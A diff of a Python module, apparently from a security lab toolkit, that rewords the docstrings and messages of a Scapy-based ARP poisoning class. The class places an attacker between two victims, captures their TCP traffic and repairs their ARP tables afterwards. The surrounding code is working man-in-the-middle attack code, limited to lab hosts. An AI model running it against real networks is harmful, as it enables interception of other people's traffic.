@@ -1,12 +1,13 @@
-"""The position on a LAN: two hosts are made to believe that the other one is at the attacker's MAC address.
+"""The position on a LAN: the attacker claims each victim's IP address by ARP.
 
-ARP (RFC 826) believes whoever speaks. Each victim, and nobody else, is sent requests in the other's name: Linux takes
-the sender's address from a request at once and unconditionally, and creates an entry that isn't there yet, while it
-passes over unsolicited answers for a second after a change. The victims' packets then come to the attacker, and its
-kernel passes them on.
+ARP (RFC 826) has no authentication. The attacker sends each victim, and no other host, requests in the other victim's
+name. Linux takes the sender's address from a request at once and unconditionally, and creates a missing entry; but for
+a second after a change it ignores unsolicited answers. The victims' packets then go to the attacker, and its kernel
+forwards them.
 
-Every way out heals both tables. If the whole container is killed at once, nobody is left to do it; victims that were
-talking to each other recovered by themselves after 25 to 55 s (Linux 6.18, unreachability detection as in RFC 4861).
+Whatever ends the attacker, both ARP tables are repaired. If the whole container is killed at once, no process is left
+to repair them. Victims with open connections then recovered after 25 to 55 s (Linux 6.18, unreachability detection as
+in RFC 4861).
 """
 
 import asyncio
@@ -26,7 +27,7 @@ FIND_SECONDS = 30.0
 _ASK_EVERY_SECONDS = 0.5
 _FIRST_INTERVALS_SECONDS = (0.1,) * 5 + (0.25,) * 8
 _INTERVAL_SECONDS = 1.0
-# After a victim has spoken to everybody: at once, and again behind the true answers.
+# After a victim's broadcast: at once, and again after the true answers.
 _AGAIN_SECONDS = (0.0, 0.05, 0.25)
 _ETHERTYPE_ARP = 0x0806
 _BROADCAST = "ff:ff:ff:ff:ff:ff"
@@ -36,10 +37,10 @@ _SYSCTLS = Path("/proc/sys/net/ipv4")
 
 
 class ArpPosition:
-    """Between `client` and `server` for as long as the context lasts; both tables are healed when it ends.
+    """Between `client` and `server` for as long as the context lasts; both ARP tables are repaired when it ends.
 
-    Entering it takes until both hosts have answered, at most `find_seconds`. AttackerError where they don't, or where
-    this machine isn't set up to pass packets on; OutOfScope where they are not the lab's. Needs CAP_NET_RAW alone.
+    Entering takes until both hosts have answered, at most `find_seconds`. AttackerError if they do not, or if this
+    machine does not forward packets; OutOfScope for hosts outside the lab. Needs only CAP_NET_RAW.
     """
 
     def __init__(self, watchdog: Watchdog, client: str, server: str, *, find_seconds: float = FIND_SECONDS) -> None:
@@ -86,7 +87,7 @@ class ArpPosition:
         self._leave()
 
     async def hold(self, stop: asyncio.Event) -> None:
-        """Waits until `stop` is set; AttackerError as soon as the position is lost."""
+        """Waits until `stop` is set; AttackerError when the position is lost."""
         stopped = asyncio.create_task(stop.wait())
         try:
             await asyncio.wait((stopped, self._lost), return_when=asyncio.FIRST_COMPLETED)
@@ -96,12 +97,13 @@ class ArpPosition:
             raise AttackerError(self._lost.result())
 
     def bpf_filter(self) -> str:
-        """What the victims say to each other over TCP, as it comes in here and not as it leaves (pcap-filter(7))."""
+        """A filter for the victims' TCP packets to each other on arrival, not when they leave (pcap-filter(7))."""
         return f"tcp and host {self.client} and host {self.server} and ether dst {self._own_mac}"
 
     def describe(self) -> tuple[str, ...]:
-        """A line for each victim, `10.0.0.2 takes 02:42:0a:00:00:09 for 10.0.0.3`, and one for what gives it away."""
-        lines = tuple(f"{victim} takes {self._own_mac} for {peer}" for victim, peer in self._peers.items())
+        """A line for each victim, `10.0.0.2 sends packets for 10.0.0.3 to 02:42:0a:00:00:09`, and one if ICMP redirects
+        reveal the attacker."""
+        lines = tuple(f"{victim} sends packets for {peer} to {self._own_mac}" for victim, peer in self._peers.items())
         redirects = _redirects(self.interface)
         return (*lines, redirects) if redirects else lines
 
@@ -124,10 +126,10 @@ class ArpPosition:
             ) from None
         if len(set(self._macs.values())) < len(self._macs):
             both = " and ".join(self._macs)
-            raise AttackerError(f"{both} have the same MAC address: somebody else is between them already")
+            raise AttackerError(f"{both} have the same MAC address: another host is between them already")
 
     def _receive(self) -> None:
-        """One ARP packet: an answer that was waited for, a victim's doubts, or a victim at a new address."""
+        """One ARP packet: an expected answer, a victim that checks its peer, or a victim with a new address."""
         try:
             packet = self._link.recv()
         except OSError as error:
@@ -142,14 +144,14 @@ class ArpPosition:
         if not self._poisoning:
             return
         if packet.dst == _BROADCAST:
-            # Everybody has now heard the truth about the victim, and it may get a true answer.
+            # All hosts now know the victim's true address, and it may get a true answer.
             for seconds in _AGAIN_SECONDS:
                 self._loop.call_later(seconds, self._poison)
         elif arp.op == _WHO_HAS and arp.pdst == self._peers[victim]:
             self._send(self._claim(victim, _IS_AT))
 
     def _learn(self, victim: str, mac: str) -> None:
-        """A host that was started anew may have a new MAC address."""
+        """Stores a MAC address; a restarted host may have a new one."""
         if self._macs.get(victim) == mac:
             return
         self._macs[victim] = mac
@@ -165,7 +167,7 @@ class ArpPosition:
         self._watchdog.entrust(self.interface, self._remedies(), of=self)
 
     def _claim(self, victim: str, operation: int) -> Any:
-        """Tells `victim` that its peer is here."""
+        """The packet that tells `victim` that its peer is at the attacker's MAC address."""
         return _arp(
             self._own_mac,
             self._macs[victim],
@@ -175,10 +177,10 @@ class ArpPosition:
         )
 
     def _remedies(self) -> tuple[bytes, ...]:
-        """What tells each victim the truth about its peer.
+        """The packets that tell each victim its peer's true MAC address.
 
-        The Ethernet frames come from the attacker's own address nevertheless: from the peer's they would teach the
-        bridge that the peer is behind the attacker's port.
+        The Ethernet source is the attacker's own address: with the peer's, the bridge would learn that the peer is at
+        the attacker's port.
         """
         return tuple(
             bytes(_arp(self._own_mac, self._macs[victim], operation, (self._macs[peer], peer), (target, victim)))
@@ -211,7 +213,7 @@ class ArpPosition:
             self._lost.set_result(f"the position between {' and '.join(self._peers)} is lost: {reason}")
 
     def _leave(self) -> None:
-        """Heals, without waiting for anything that could be cancelled, and tells the watchdog that it needn't."""
+        """Repairs the tables, without anything that could be cancelled, and tells the watchdog that it need not."""
         self._loop.remove_reader(self._link.ins)
         self._loop.remove_reader(self._watchdog)
         was_poisoning, self._poisoning = self._poisoning, False
@@ -220,19 +222,19 @@ class ArpPosition:
             try:
                 self._watchdog.entrust(self.interface, (), of=self)
             except AttackerError:
-                pass  # it has gone, and the tables are right already
+                pass  # the watchdog has ended, and the tables are repaired
         self._link.close()
 
 
 def _arp(source: str, destination: str, operation: int, sender: tuple[str, str], target: tuple[str, str]) -> Any:
-    """An ARP packet; `sender` and `target` are a MAC and an IP address each, as they stand in its body."""
+    """An ARP packet; `sender` and `target` are a MAC and an IP address each, for its body."""
     return Ether(src=source, dst=destination) / ARP(
         op=operation, hwsrc=sender[0], psrc=sender[1], hwdst=target[0], pdst=target[1]
     )
 
 
 def _open_link(interface: str) -> Any:
-    """ARP alone, by the packet socket's own protocol number: that needs no filter and no promiscuous interface."""
+    """A socket for ARP only, by protocol number, so it needs no filter and no promiscuous interface."""
     try:
         return conf.L2socket(iface=interface, type=_ETHERTYPE_ARP, promisc=False)
     except PermissionError:
@@ -242,19 +244,19 @@ def _open_link(interface: str) -> Any:
 
 
 def _check_forwarding() -> None:
-    """The kernel must pass the victims' packets on."""
+    """The kernel must forward the victims' packets."""
     if _sysctl("ip_forward") != "1":
         raise AttackerError(
-            "the victims' packets would end here: the ARP position needs net.ipv4.ip_forward=1 (compose: `sysctls:`)"
+            "this machine does not forward packets: the ARP position needs net.ipv4.ip_forward=1 (compose: `sysctls:`)"
         )
 
 
 def _redirects(interface: str) -> str | None:
-    """What to say where the kernel tells the victims of the shorter way (RFC 1812 section 5.2.7.2)."""
+    """A warning if the kernel tells the victims the shorter way (RFC 1812 section 5.2.7.2); None if it does not."""
     on = [name for name in ("all", interface) if _sysctl(f"conf/{name}/send_redirects") != "0"]
     if not on:
         return None
-    return f"ICMP redirects give it away, though Linux passes over them: net.ipv4.conf.{on[-1]}.send_redirects is on"
+    return f"ICMP redirects reveal the attacker, though Linux ignores them: net.ipv4.conf.{on[-1]}.send_redirects is on"
 
 
 def _sysctl(name: str) -> str:
